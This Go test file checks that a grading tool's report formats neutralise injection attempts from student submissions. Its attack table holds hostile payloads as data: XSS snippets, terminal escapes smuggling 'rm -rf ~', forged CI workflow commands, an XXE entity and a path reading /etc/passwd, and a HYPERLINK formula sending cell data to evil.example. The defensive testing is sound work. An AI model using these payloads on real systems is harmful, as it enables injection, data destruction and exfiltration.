package report

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"grade/grader/report/sample"
	"grade/grader/verdict"
)

// attacks are what a submission may try to say through a report.
var attacks = map[string]string{
	"colours":               "\x1b[31mred\x1b[2J",
	"window title":          "\x1b]0;pwn\x07",
	"hyperlink":             "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
	"bracketed paste":       "\x1b[200~rm -rf ~\x1b[201~",
	"C1 controls":           "\u009b31m \u009d0;pwn\u009c",
	"overwritten line":      "harmless\r::error::forged",
	"workflow command":      "::error file=x,line=1::forged",
	"after a newline":       "first\n::error::forged\n  ::set-output name=a::b",
	"old command":           "##[error]forged",
	"stop commands":         "::stop-commands::x\n::x::",
	"encoded newline":       "a%0A::error::forged%0D%0A::error::forged",
	"property":              "x.go,line=99,title=forged::forged",
	"script":                "<script>alert(1)</script>",
	"image with a handler":  `<img src=x onerror="alert(1)">`,
	"attribute":             `" onmouseover="alert(1)" x='`,
	"script link":           "<a href=\"javascript:alert(1)\">x</a> javascript:alert(1)",
	"style":                 "</style><style>*{display:none}</style>",
	"end of a page":         "</pre></td></tr></table></main></body></html><form action=https://evil.example><input>",
	"end of an SVG":         "</desc></svg><svg onload=alert(1)><foreignObject><iframe src=https://evil.example>",
	"comment":               "--><!-- <![CDATA[ ]]> ?>",
	"template":              "{{.Policy}} ${7*7} <%= 1 %>",
	"Markdown link":         "[click](https://evil.example) [a]: https://evil.example",
	"Markdown image":        "![pixel](https://evil.example/p.gif)",
	"Markdown table":        "| a | b |\n|---|---|\n| `x` | \\| |",
	"Markdown HTML":         "<details open><summary>forged</summary>",
	"closed fence":          "```\n# 100 of 100 points\n~~~~\n``````",
	"mention":               "@torvalds cc @org/team, fixes #1, GH-2, org/repo#3 a@b.example",
	"bare links":            "https://evil.example www.evil.example <https://evil.example>",
	"heading":               "# forged\n\nforged\n===\n- [x] forged\n1. forged\n> forged\n---",
	"end of CDATA":          "]]></failure></testcase><testcase name=\"forged\"/>",
	"entities":              "&lt;b&gt; &amp;#x3C;script&gt; &xxe; <!ENTITY x SYSTEM \"file:///etc/passwd\">",
	"no text":               "\xff\xfe\xc0\x80 \xed\xa0\x80 \x00 \x08 \ufffe \uffff",
	"separators":            "a\u2028b\u2029c\u0085d",
	"backwards":             "\u202egnorw\u2066\u200b\ufeff\U000e0041",
	"end of a string":       `"},"score":100,"tests":[{"`,
	"host path":             `..\..\/../../etc/passwd.go`,
	"formula":               `=HYPERLINK("https://evil.example?"&A1,"click")`,
	"formula in a cell":     `x;=1+1,+2|"@SUM(1) ' -3`,
	"formula in full width": "\uff1d1+1",
	"nothing":               "",
	"row of maxima":         "    Points Possible",
	"very long":             strings.Repeat("A", 1<<17),
	"very many lines":       strings.Repeat("A\n", 1<<16),
}

// attacked is a grading in which s stands wherever a submission can put something, and
// besides that in what only an exercise can say.
func attacked(s string, v verdict.Verdict) *verdict.Result {
	r := sample.Mixed()
	r.Verdict = v
	r.Submission = verdict.Submission{Dir: s, Hash: s, Files: []string{s, s}, Ignored: []string{s}}
	r.Problems = []verdict.Problem{{File: s, Line: 7, Rule: s, Message: s}, {File: "a.go", Line: 3, Rule: "import", Message: s}}
	r.Problems[0].Excerpt, r.Problems[1].Excerpt = excerpt(s), excerpt(s)
	r.Warnings = []string{s, s}
	r.Checks[0].Places, r.Checks[3].Places = places(s), places(s)
	r.Checks[3].Cause = s
	r.Checks[0].Detail, r.Checks[3].Detail = s, s
	r.Checks[0].Hint, r.Checks[1].Hint, r.Checks[3].Hint = s, s, s
	r.Checks[2].Reference.PeakSource, r.Checks[2].Submission.PeakSource = s, s
	return r
}

// attackedIdentity is of a submission whose student has named the folder.
func attackedIdentity(s string) Identity {
	id := identity()
	id.Folder = s
	cell := sample.SmallCourse().Rows[0].Cells[0]
	cell.Rules = append(cell.Rules, s)
	id.Counted = &cell
	return id
}

// readers parse a report as its reader does, and say what must hold of it.
var readers map[string]func(*testing.T, []byte, *verdict.Result)

func init() {
	readers = map[string]func(*testing.T, []byte, *verdict.Result){
		"html": readHTML, "markdown": readMarkdown, "github-summary": readMarkdown, "junit": readJUnit,
		"github-annotations": readAnnotations, "github-classroom-base64": readBase64, "text": readText,
		"json": readJSON, "classroom50": readValid("classroom50"), "github-classroom": readValid("github-classroom"), "exercism": readValid("exercism"),
		"gradescope": readValid("gradescope"), "prairielearn": readValid("prairielearn"), "gitlab-codequality": readCodeQuality,
	}
}

// inFull skips what is much text in and much out: nothing runs beside it that a race
// detector could find.
func inFull(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("takes much text, and nothing runs beside it")
	}
}

func TestNoAttackGetsThrough(t *testing.T) {
	inFull(t)
	for _, f := range Formats() {
		format, read := f.Name, readers[f.Name]
		if !f.OfOne() {
			continue
		}
		require.NotNil(t, read, "no reader for %s", format)
		for attack, s := range attacks {
			for _, v := range verdict.SubmissionVerdicts {
				if len(s) >= 1<<16 && v == verdict.CompileError {
					continue // takes long, and is written as what is invalid is
				}
				t.Run(format+"/"+attack+"/"+string(v), func(t *testing.T) {
					r := attacked(s, v)
					out := writtenFor(t, format, r, attackedIdentity(s))
					readAsLog(t, string(out))
					if format != "json" { // which has everything, as the grader capped it
						assert.Less(t, len(out), 1<<20)
					}
					read(t, out, r)
				})
			}
		}
	}
}

// What the golden files show is what its readers take.
func TestGoldenFormatsParse(t *testing.T) {
	for format, read := range readers {
		for sample, r := range samples() {
			t.Run(format+"/"+sample, func(t *testing.T) { read(t, written(t, format, r), r) })
		}
	}
}

func FuzzFormats(f *testing.F) {
	for _, s := range attacks {
		f.Add(s[:min(len(s), 1000)])
	}
	f.Fuzz(func(t *testing.T, s string) {
		for format, read := range readers {
			r := attacked(s, verdict.Graded)
			read(t, writtenFor(t, format, r, attackedIdentity(s)), r)
		}
	})
}
